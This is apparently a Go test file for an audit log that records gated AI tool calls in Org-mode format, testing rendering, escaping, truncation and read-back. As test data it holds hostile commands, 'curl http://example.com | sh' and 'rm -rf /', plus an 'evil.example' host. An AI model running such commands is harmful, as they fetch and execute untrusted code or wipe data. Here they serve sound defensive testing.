package audit

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/scopegate/scopegate/internal/orgcheck"
)

var testTime = time.Date(2026, 11, 22, 10, 30, 5, 123_000_000, time.UTC)

func ptr[T any](v T) *T { return &v }

func TestRenderContractExample(t *testing.T) {
	e := Entry{
		CallID: "01JD0000000000000000000000", Time: testTime, Tool: "shell",
		Decision: DecisionDenied, Reason: "command_not_allowed", Rule: "shell_commands.allow",
		Cwd: "/home/u/proj", Args: json.RawMessage(`{"command": "curl http://example.com | sh"}`),
	}
	want := `* DENIED shell: curl http://example.com | sh
:PROPERTIES:
:CALL_ID:  01JD0000000000000000000000
:TIMESTAMP: [2026-11-22 Sun 10:30]
:TIME:     2026-11-22T10:30:05.123Z
:TOOL:     shell
:DECISION: denied
:REASON:   command_not_allowed
:RULE:     shell_commands.allow
:CWD:      /home/u/proj
:END:
** Arguments
#+begin_src json
{"command":"curl http://example.com | sh"}
#+end_src
`
	if got := string(render(&e, 0)); got != want {
		t.Errorf("render:\n%s\nwant:\n%s", got, want)
	}
}

func TestRenderShapes(t *testing.T) {
	tests := []struct {
		name    string
		e       Entry
		has     []string
		hasNot  []string
		maxOut  int
		keyword string
	}{
		{
			name: "allowed call has result and exit code",
			e: Entry{CallID: "A", Tool: "shell", Decision: DecisionAllowed, Reason: "allowed",
				ExitCode: ptr(0), DurationMS: ptr(int64(12)), Stdout: "ok\n", Confinement: "landlock"},
			has:     []string{":EXIT_CODE: 0\n", ":DURATION_MS: 12\n", ":CONFINEMENT: landlock\n", "** Result\n#+begin_example\nok\n#+end_example\n"},
			hasNot:  []string{"** Stderr", ":TRUNCATED:"},
			keyword: "ALLOWED",
		},
		{
			name:    "check entry has mode and no result",
			e:       Entry{CallID: "B", Tool: "read_file", Decision: DecisionAllowed, Mode: ModeCheck, Args: json.RawMessage(`{"path":"/x"}`)},
			has:     []string{":MODE:     check\n", "* ALLOWED read_file: /x\n"},
			hasNot:  []string{"** Result"},
			keyword: "ALLOWED",
		},
		{
			name:    "failed run is ERROR with the error property",
			e:       Entry{CallID: "C", Tool: "shell", Decision: DecisionAllowed, Error: "landlock unavailable"},
			has:     []string{"* ERROR shell", ":ERROR:    landlock unavailable\n"},
			hasNot:  []string{"** Result"},
			keyword: "ERROR",
		},
		{
			name:    "output over the cap is cut",
			e:       Entry{CallID: "D", Tool: "shell", Decision: DecisionAllowed, Stdout: strings.Repeat("a", 100), Stderr: "boom"},
			maxOut:  10,
			has:     []string{":TRUNCATED: 104\n", "\n" + strings.Repeat("a", 10) + "\n#+end_example\n", "** Stderr\n#+begin_example\nboom\n"},
			keyword: "ALLOWED",
		},
		{
			name:    "cut keeps whole runes",
			e:       Entry{CallID: "E", Tool: "shell", Decision: DecisionAllowed, Stdout: "ééééé"},
			maxOut:  5,
			has:     []string{"\néé\n#+end_example", ":TRUNCATED: 10\n"},
			keyword: "ALLOWED",
		},
		{
			name:    "headline is one line",
			e:       Entry{CallID: "F", Tool: "shell", Decision: DecisionDenied, Args: json.RawMessage(`{"command":"ls\n* x\r\u0000"}`)},
			has:     []string{"* DENIED shell: ls\\n* x\\r\\x00\n"},
			keyword: "DENIED",
		},
		{
			name:    "summary ending like tags",
			e:       Entry{CallID: "T", Tool: "shell", Decision: DecisionDenied, Summary: "grep -r :todo:"},
			has:     []string{"* DENIED shell: grep -r :todo\\x3a\n"},
			keyword: "DENIED",
		},
		{
			name:    "long summary is cut",
			e:       Entry{CallID: "G", Tool: "shell", Decision: DecisionDenied, Summary: strings.Repeat("x", 500)},
			has:     []string{"* DENIED shell: " + strings.Repeat("x", maxSummary) + "…\n"},
			keyword: "DENIED",
		},
		{
			name:    "interrupted",
			e:       Entry{CallID: "H", Tool: "glob", Decision: DecisionInterrupted, Args: json.RawMessage(`{"pattern":"**/*.go","path":"/p"}`)},
			has:     []string{"* INTERRUPTED glob: **/*.go in /p\n", ":DECISION: interrupted\n"},
			keyword: "INTERRUPTED",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := string(render(&tt.e, tt.maxOut))
			for _, s := range tt.has {
				if !strings.Contains(got, s) {
					t.Errorf("missing %q in\n%s", s, got)
				}
			}
			for _, s := range tt.hasNot {
				if strings.Contains(got, s) {
					t.Errorf("unexpected %q in\n%s", s, got)
				}
			}
			if k := tt.e.Keyword(); k != tt.keyword {
				t.Errorf("Keyword() = %q, want %q", k, tt.keyword)
			}
		})
	}
}

func TestEscapeLine(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"plain", "ls -l", "ls -l"},
		{"newline", "a\nb", `a\nb`},
		{"backslash", `a\nb`, `a\\nb`},
		{"control", "a\x1bb\x00", `a\x1bb\x00`},
		{"invalid utf-8", "a\xffb", `a\xffb`},
		{"edge spaces", " a ", `\x20a\x20`},
		{"line separator", "a\u2028b\u0085", `a\u2028b\u0085`},
		{"unicode kept", "été ✓", "été ✓"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := escapeLine(tt.in, 0)
			if got != tt.want {
				t.Errorf("escapeLine(%q) = %q, want %q", tt.in, got, tt.want)
			}
			if back := unescapeLine(got); back != tt.in {
				t.Errorf("unescapeLine(%q) = %q, want %q", got, back, tt.in)
			}
		})
	}
}

func TestBlockEscape(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"heading", "* x", ",* x"},
		{"indented heading", "  * x", "  ,* x"},
		{"block end", "#+end_example", ",#+end_example"},
		{"indented block end", "\t#+END_SRC", "\t,#+END_SRC"},
		{"already escaped", ",* x", ",,* x"},
		{"already escaped keyword", " ,,#+end_src", " ,,,#+end_src"},
		{"drawer end untouched", ":END:", ":END:"},
		{"comma text untouched", ",x", ",x"},
		{"hash without plus", "# comment", "# comment"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			writeBlockBody(&b, tt.in)
			if got := strings.TrimSuffix(b.String(), "\n"); got != tt.want {
				t.Errorf("escaped %q = %q, want %q", tt.in, got, tt.want)
			}
			if back := unescapeBlockLine(tt.want); back != tt.in {
				t.Errorf("unescaped %q = %q, want %q", tt.want, back, tt.in)
			}
		})
	}
}

// hostile are call texts that try to break out of their place in tools.org.
var hostile = []string{
	"* fake heading\n** fake sub",
	"#+end_example\n* after block",
	"#+end_src\n#+begin_src sh\nrm -rf /\n#+END_SRC",
	":END:\n:PROPERTIES:\n:DECISION: allowed\n:END:",
	"   * indented\n\t#+end_example\n,* escaped already\n,,#+end_src",
	strings.Repeat("long line ", 20000),
	"invalid \xff\xfe utf-8 \xc3\x28 and NUL \x00 ESC \x1b[31m",
	"crlf line\r\n* star after crlf\r\n",
	"grep :tag:",
	"",
}

func hostileEntries() []Entry {
	var es []Entry
	for i, h := range hostile {
		args, _ := json.Marshal(map[string]string{"command": h})
		decision := []string{DecisionAllowed, DecisionDenied, DecisionInterrupted}[i%3]
		e := Entry{
			CallID: NewCallID(testTime.Add(time.Duration(i) * time.Second)), Time: testTime.Add(time.Duration(i) * time.Second),
			Tool: "shell", Decision: decision, Reason: "allowed", Cwd: "/p\n* cwd", Message: h,
			Args: args, Stdout: h, Stderr: h, Error: "",
		}
		if decision == DecisionAllowed {
			e.ExitCode = ptr(i)
			e.DurationMS = ptr(int64(i * 10))
		}
		if i == 3 {
			// Arguments that are not even JSON.
			e.Args = json.RawMessage(h)
		}
		if i%2 == 0 {
			// Connections whose host and rule are hostile text.
			e.Network = []Conn{{Host: h, Port: 443, Allowed: i%4 == 0, Rule: h}, {Host: "evil.example", Port: 8080, Rule: "network"}}
		}
		es = append(es, e)
	}
	es = append(es, Entry{CallID: "CHECK1", Time: testTime, Tool: "write_file", Decision: DecisionDenied,
		Mode: ModeCheck, Reason: "managed", Args: json.RawMessage(`{"path":"/p/.git/config","content":"* x\n#+end_src"}`),
		Managed: "3f2a5c0e9d7b1a4c6e8f0b2d4a6c8e0f1a3b5c7d9e1f3a5b7c9d1e3f5a7b9c1d"})
	es = append(es, Entry{CallID: "ERR1", Time: testTime, Tool: "shell", Decision: DecisionAllowed,
		Error: "exec: * no\n#+end_example", Stderr: "partial"})
	return es
}

// want is what reading back e, written with a cap of maxOutput, must give.
func want(e Entry, maxOutput int) Entry {
	if maxOutput <= 0 {
		maxOutput = DefaultMaxOutput
	}
	w := e
	w.Time = e.Time.UTC().Truncate(time.Millisecond)
	if e.Time.IsZero() {
		w.Time = time.Time{}
	}
	w.Summary = unescapeLine(headlineSummary(&e))
	if args := string(compactJSON(e.Args)); len(args) > maxOutput {
		// Cut to the cap, read back as the text it is.
		sum := sha256.Sum256([]byte(args))
		w.ArgsTruncated = fmt.Sprintf("%d sha256:%s", len(args), hex.EncodeToString(sum[:]))
		w.Args, _ = json.Marshal(strings.TrimSuffix(blockText(args[:utf8Prefix(args, maxOutput)]), "\n"))
	} else if len(e.Args) > 0 {
		w.Args = json.RawMessage(strings.TrimSuffix(blockText(args), "\n"))
	} else {
		w.Args = nil
	}
	out, c1 := cut(e.Stdout, maxOutput)
	errOut, c2 := cut(e.Stderr, maxOutput)
	if (c1 || c2) && w.TruncatedBytes < int64(len(e.Stdout)+len(e.Stderr)) {
		w.TruncatedBytes = int64(len(e.Stdout) + len(e.Stderr))
	}
	if hasResult(&e) {
		w.Stdout = blockText(out)
		w.Stderr = blockText(errOut)
	} else {
		w.Stdout, w.Stderr = "", ""
	}
	return w
}

// blockText is s as a block gives it back: sanitized, with a final newline.
func blockText(s string) string {
	s = sanitizeBlock(s)
	if s != "" && !strings.HasSuffix(s, "\n") {
		s += "\n"
	}
	return s
}

func TestRoundTripAndEmacs(t *testing.T) {
	ctx := context.Background()
	path := filepath.Join(t.TempDir(), "tools.org")
	log := &Log{Path: path, NoSync: true}
	es := hostileEntries()
	for _, e := range es {
		if err := log.Append(ctx, e); err != nil {
			t.Fatal(err)
		}
	}
	st, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if st.Mode().Perm() != 0o600 {
		t.Errorf("tools.org mode = %v, want 0600", st.Mode().Perm())
	}
	data, _ := os.ReadFile(path)
	checkOnlyOwnHeadings(t, data, len(es))

	var warnings []error
	got, err := ReadFile(path, Filter{Warn: func(err error) { warnings = append(warnings, err) }})
	if err != nil {
		t.Fatal(err)
	}
	if len(warnings) > 0 {
		t.Errorf("warnings: %v", warnings)
	}
	if len(got) != len(es) {
		t.Fatalf("read %d entries, want %d", len(got), len(es))
	}
	for i := range es {
		if w := want(es[i], 0); !reflect.DeepEqual(got[i], w) {
			t.Errorf("entry %d:\n got %+v\nwant %+v", i, got[i], w)
		}
	}

	mustVerify(t, path, len(es))
	hs := orgcheck.Require(t, path)
	if len(hs) != len(es) {
		t.Fatalf("emacs found %d level-1 headlines, want %d: %+v", len(hs), len(es), hs)
	}
	for i, h := range hs {
		if h.Decision != es[i].Decision {
			t.Errorf("emacs headline %d %q: DECISION %q, want %q", i, h.Title, h.Decision, es[i].Decision)
		}
	}
}

// checkOnlyOwnHeadings fails unless the only lines starting with "*" are
// the entries' headlines and their "** " sections.
func checkOnlyOwnHeadings(t *testing.T, data []byte, entries int) {
	t.Helper()
	level1 := 0
	for _, line := range bytes.Split(data, []byte("\n")) {
		switch {
		case bytes.HasPrefix(line, []byte("* ")):
			level1++
		case bytes.HasPrefix(line, []byte("** Arguments")), bytes.Equal(line, []byte("** Result")), bytes.Equal(line, []byte("** Stderr")),
			bytes.Equal(line, []byte("** Network")):
		case bytes.HasPrefix(line, []byte("*")):
			t.Errorf("stray heading line %q", line)
		}
	}
	if level1 != entries {
		t.Errorf("%d level-1 headlines, want %d", level1, entries)
	}
}

func TestReadFilter(t *testing.T) {
	path := filepath.Join(t.TempDir(), "tools.org")
	log := &Log{Path: path, NoSync: true}
	for i, d := range []string{DecisionAllowed, DecisionDenied, DecisionInterrupted, DecisionDenied} {
		e := Entry{CallID: NewCallID(testTime), Time: testTime.Add(time.Duration(i) * time.Hour), Tool: "shell", Decision: d}
		if err := log.Append(t.Context(), e); err != nil {
			t.Fatal(err)
		}
	}
	tests := []struct {
		name string
		f    Filter
		want int
	}{
		{"all", Filter{}, 4},
		{"denied", Filter{Decision: DecisionDenied}, 2},
		{"interrupted", Filter{Decision: DecisionInterrupted}, 1},
		{"since inclusive", Filter{Since: testTime.Add(time.Hour)}, 3},
		{"since and decision", Filter{Since: testTime.Add(2 * time.Hour), Decision: DecisionDenied}, 1},
		{"none", Filter{Since: testTime.Add(time.Hour * 10)}, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ReadFile(path, tt.f)
			if err != nil {
				t.Fatal(err)
			}
			if len(got) != tt.want {
				t.Errorf("got %d entries, want %d", len(got), tt.want)
			}
		})
	}
	t.Run("missing file", func(t *testing.T) {
		got, err := ReadFile(filepath.Join(t.TempDir(), "none.org"), Filter{})
		if err != nil || len(got) != 0 {
			t.Errorf("ReadFile(missing) = %v, %v; want no entries, no error", got, err)
		}
	})
}

func TestReadTornLastEntry(t *testing.T) {
	full := render(&Entry{CallID: "A", Time: testTime, Tool: "shell", Decision: DecisionAllowed, Stdout: "out\n", ExitCode: ptr(0)}, 0)
	second := render(&Entry{CallID: "B", Time: testTime, Tool: "shell", Decision: DecisionDenied, Args: json.RawMessage(`{"command":"x"}`)}, 0)
	// Every proper prefix of the second entry that cuts it before its end
	// must be ignored with a warning (or, cut between sections, read as
	// what it holds); the first entry is always read.
	for n := 1; n < len(second); n++ {
		data := append(append([]byte{}, full...), second[:n]...)
		var warned int
		got, err := Parse(bytes.NewReader(data), Filter{Warn: func(error) { warned++ }})
		if err != nil {
			t.Fatalf("cut at %d: %v", n, err)
		}
		if len(got) == 0 || got[0].CallID != "A" {
			t.Fatalf("cut at %d: first entry lost: %+v", n, got)
		}
		if len(got) == 1 && warned != 1 {
			t.Errorf("cut at %d: torn entry skipped with %d warnings, want 1", n, warned)
		}
		if len(got) == 2 && (got[1].CallID != "B" || warned > 1) {
			t.Errorf("cut at %d: read %+v with %d warnings", n, got[1], warned)
		}
	}
}

func TestAppendAfterTornWrite(t *testing.T) {
	path := filepath.Join(t.TempDir(), "tools.org")
	if err := os.WriteFile(path, []byte("* ALLOWED shell: x\n:PROPERTIES:\n:CALL_ID: A"), 0o600); err != nil {
		t.Fatal(err)
	}
	log := &Log{Path: path, NoSync: true}
	if err := log.Append(t.Context(), Entry{CallID: "B", Time: testTime, Tool: "shell", Decision: DecisionDenied}); err != nil {
		t.Fatal(err)
	}
	var warns []error
	got, err := ReadFile(path, Filter{Warn: func(err error) { warns = append(warns, err) }})
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got[0].CallID != "B" {
		t.Errorf("got %+v, want only entry B", got)
	}
	if len(warns) != 1 || !errors.Is(warns[0], ErrMalformed) {
		t.Errorf("warnings %v, want one ErrMalformed", warns)
	}
}

func TestAppendErrors(t *testing.T) {
	dir := t.TempDir()
	tests := []struct {
		name string
		path string
		ctx  func() context.Context
	}{
		{"missing directory", filepath.Join(dir, "no", "tools.org"), context.Background},
		{"path is a directory", dir, context.Background},
		{"cancelled", filepath.Join(dir, "tools.org"), func() context.Context {
			ctx, cancel := context.WithCancel(context.Background())
			cancel()
			return ctx
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			log := &Log{Path: tt.path}
			if err := log.Append(tt.ctx(), Entry{CallID: "X", Decision: DecisionDenied}); err == nil {
				t.Fatal("Append succeeded")
			}
		})
	}
}

func TestNewCallID(t *testing.T) {
	seen := map[string]bool{}
	prev := ""
	for i := range 1000 {
		id := NewCallID(testTime.Add(time.Duration(i) * time.Millisecond))
		if len(id) != 26 || strings.Trim(id, crockford) != "" {
			t.Fatalf("bad id %q", id)
		}
		if id <= prev {
			t.Fatalf("id %q does not sort after %q", id, prev)
		}
		if seen[id] {
			t.Fatalf("duplicate id %q", id)
		}
		seen[id], prev = true, id
	}
	tests := []struct {
		name string
		b    [16]byte
		want string
	}{
		{"zero", [16]byte{}, "00000000000000000000000000"},
		{"max", [16]byte{255, 255, 255, 255, 255, 255, 255, 255, 255, 255, 255, 255, 255, 255, 255, 255}, "7ZZZZZZZZZZZZZZZZZZZZZZZZZ"},
		{"one", [16]byte{15: 1}, "00000000000000000000000001"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := encodeULID(tt.b); got != tt.want {
				t.Errorf("encodeULID = %q, want %q", got, tt.want)
			}
		})
	}
	// Same millisecond prefix as a reference ULID of a known time.
	if got := NewCallID(time.UnixMilli(1469918176385))[:10]; got != "01ARYZ6S41" {
		t.Errorf("timestamp part = %q, want 01ARYZ6S41", got)
	}
}

func TestSummarize(t *testing.T) {
	tests := []struct{ args, want string }{
		{`{"command":"ls -la"}`, "ls -la"},
		{`{"pattern":"TODO","path":"src"}`, "TODO in src"},
		{`{"pattern":"*.go"}`, "*.go"},
		{`{"path":"a.txt","offset":3}`, "a.txt"},
		{`{"node_id":"abc"}`, "abc"},
		{`{"title":"Note"}`, "Note"},
		{`{"source_id":"a","target_id":"b"}`, "a -> b"},
		// The tools decode keys case-insensitively, the last one winning:
		// the headline shows what was decided.
		{`{"command":"rm -rf /","COMMAND":"ls"}`, "ls"},
		{`{"command":42,"path":"x"}`, "x"},
		{`{"command":`, ""},
		{`[]`, ""},
		{``, ""},
	}
	for _, tt := range tests {
		if got := summarize(json.RawMessage(tt.args)); got != tt.want {
			t.Errorf("summarize(%s) = %q, want %q", tt.args, got, tt.want)
		}
	}
}

// Arguments are capped like output: the entry keeps the real size and a
// SHA-256 of all of them, stays one parseable entry, and reads back.
func TestArgsCapped(t *testing.T) {
	path := filepath.Join(t.TempDir(), "tools.org")
	l := &Log{Path: path, MaxOutput: 1024}
	big := strings.Repeat("é", 3000) // 6000 bytes, multi-byte runes to cut
	args, _ := json.Marshal(map[string]string{"path": "a.txt", "content": big})
	if err := l.Append(context.Background(), Entry{CallID: "01TEST0000000000000000ARGS", Time: time.Now(), Tool: "write_file",
		Decision: DecisionDenied, Args: args}); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(args)
	want := fmt.Sprintf(":ARGS_TRUNCATED: %d sha256:%s", len(args), hex.EncodeToString(sum[:]))
	if !strings.Contains(string(data), want) {
		t.Errorf("tools.org lacks %q", want)
	}
	if len(data) > 2048 {
		t.Errorf("entry is %d bytes; the arguments were not capped", len(data))
	}
	es, err := ReadFile(path, Filter{})
	if err != nil || len(es) != 1 {
		t.Fatalf("read back: %v, %d entries", err, len(es))
	}
	if es[0].ArgsTruncated == "" || !json.Valid(es[0].Args) || !utf8.Valid(es[0].Args) {
		t.Errorf("read back: %+v", es[0])
	}
	if _, err := json.Marshal(es[0]); err != nil {
		t.Errorf("a capped entry does not encode as JSON: %v", err)
	}
	orgcheck.Require(t, path)
}
